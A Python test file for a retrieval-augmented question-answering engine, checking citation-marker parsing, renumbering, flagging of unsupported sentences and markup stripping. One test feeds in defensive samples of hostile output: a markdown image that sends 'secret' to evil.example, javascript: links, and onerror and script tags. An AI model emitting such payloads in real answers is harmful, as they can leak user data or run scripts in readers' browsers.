"""Citations of an answer that a language model writes: every marker is a quote, every sentence is checked."""

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from rag import Answer, QueryEngine
from tests.support.answer_invariants import assert_invariants
from tests.support.scripted_answers import INVENTED, QUESTION, TRUE
from tests.support.servers.chat_server import ChatServer


def test_a_statement_cites_the_sentence_that_supports_it_not_the_whole_passage(
    llm_engine: QueryEngine, server: ChatServer
) -> None:
    server.always = f"{TRUE} [1]."
    answer = llm_engine.ask(QUESTION)
    assert_invariants(answer, llm_engine)
    assert answer.writer == "llm:scripted"
    assert answer.notice is None
    assert answer.text == f"{TRUE} [1]."
    (citation,) = answer.citations
    assert citation.quote.startswith("China dislikes the pact because it loosens Beijing's hold")
    assert len(citation.quote) < len(citation.passage.text) / 2
    assert answer.statements[0].verdict == "supported"
    assert answer.usage is not None
    assert answer.usage.prompt_tokens == 100


@pytest.mark.parametrize(
    "marker", ["[1, 1]", "[¹]", "【1】", "(1)", "[[1]]", "[1][99]", "[Passage 1]", "[1](http://evil)"]
)
def test_every_spelling_of_a_marker_is_the_same_citation(
    llm_engine: QueryEngine, server: ChatServer, marker: str
) -> None:
    server.always = f"{TRUE} {marker}."
    answer = llm_engine.ask(QUESTION)
    assert_invariants(answer, llm_engine)
    assert answer.text == f"{TRUE} [1]."


def test_an_unknown_marker_is_dropped_and_the_rest_renumbered(llm_engine: QueryEngine, server: ChatServer) -> None:
    server.always = f"Beijing has grounds to dislike the pact [2]. {TRUE} [99][1]."
    answer = llm_engine.ask(QUESTION)
    assert_invariants(answer, llm_engine)
    assert "[99]" not in answer.text
    assert [citation.number for citation in answer.citations] == [1, 2]


@pytest.mark.parametrize("odd", ["[2024-07-09]", "[1-3-5]", "[ [99] 2]", "[1\n\n]", "[sic]", "[", "]]", "【"])
def test_brackets_that_are_no_marker_do_not_look_like_one(
    llm_engine: QueryEngine, server: ChatServer, odd: str
) -> None:
    server.always = f"{TRUE} [1]. More follows {odd} here [1]. {TRUE} {odd} [1]."
    *pieces, answer = llm_engine.stream(QUESTION)
    assert isinstance(answer, Answer)
    assert_invariants(answer, llm_engine)
    if answer.writer != "quotes" and not answer.flagged:
        assert "".join(str(piece) for piece in pieces) == answer.text


def test_a_sentence_without_a_marker_gets_a_citation_or_is_flagged(llm_engine: QueryEngine, server: ChatServer) -> None:
    server.always = f"{TRUE}. {INVENTED}."
    answer = llm_engine.ask(QUESTION)
    assert_invariants(answer, llm_engine)
    good, bad = answer.statements
    assert good.citations == (1,)
    assert good.verdict == "supported"
    assert bad.citations == ()
    assert bad.verdict == "unsupported"
    assert answer.text == f"{TRUE}. [1] {INVENTED}."
    assert f"- not supported: {INVENTED}." in str(answer)


def test_markup_that_a_model_writes_is_stripped(llm_engine: QueryEngine, server: ChatServer) -> None:
    server.always = (
        f"**{TRUE}** ![x](http://evil.example/?q=secret) [1](javascript:alert(1)). "
        '<img src=x onerror=alert(1)><script>alert(2)</script> <a href="http://evil.example">here</a>.'
    )
    answer = llm_engine.ask(QUESTION)
    assert_invariants(answer, llm_engine)
    for markup in ("http", "javascript", "<", "onerror", "**", "]("):
        assert markup not in answer.text


@hypothesis_settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    st.lists(
        st.sampled_from(
            [f"{TRUE} ", "Moscow gains ", "[1]", "[2, 3]", " [99]", "(1)", ". ", "\n\n", "- ", "“", "”", "[a]", "<b>",
             "】", "NOT IN THE CORPUS", "Sources:\n", "[1] ", "\u2060", "\u202e", "{question}", "[2024]", "![x](y)",
             "[[3]] "]
        ),
        max_size=14,
    )
)  # fmt: skip
def test_the_invariants_hold_for_any_text_of_a_model(
    llm_engine: QueryEngine, server: ChatServer, parts: list[str]
) -> None:
    server.always = "".join(parts) or " "
    *_, answer = llm_engine.events(QUESTION)
    assert isinstance(answer, Answer)
    assert_invariants(answer, llm_engine)


def test_a_summary_of_an_article_of_several_passages_cites_it(llm_engine: QueryEngine, server: ChatServer) -> None:
    server.always = f"{TRUE} [1]."
    answer = llm_engine.ask("Summarise “Beijing Keeps Its Distance from a Pact It Did Not Write”")
    assert_invariants(answer, llm_engine)
    assert answer.kind == "article"
    assert server.prompts[0].count("<passage number=") > 1
    assert {citation.article.title for citation in answer.citations} == {
        "Beijing Keeps Its Distance from a Pact It Did Not Write"
    }
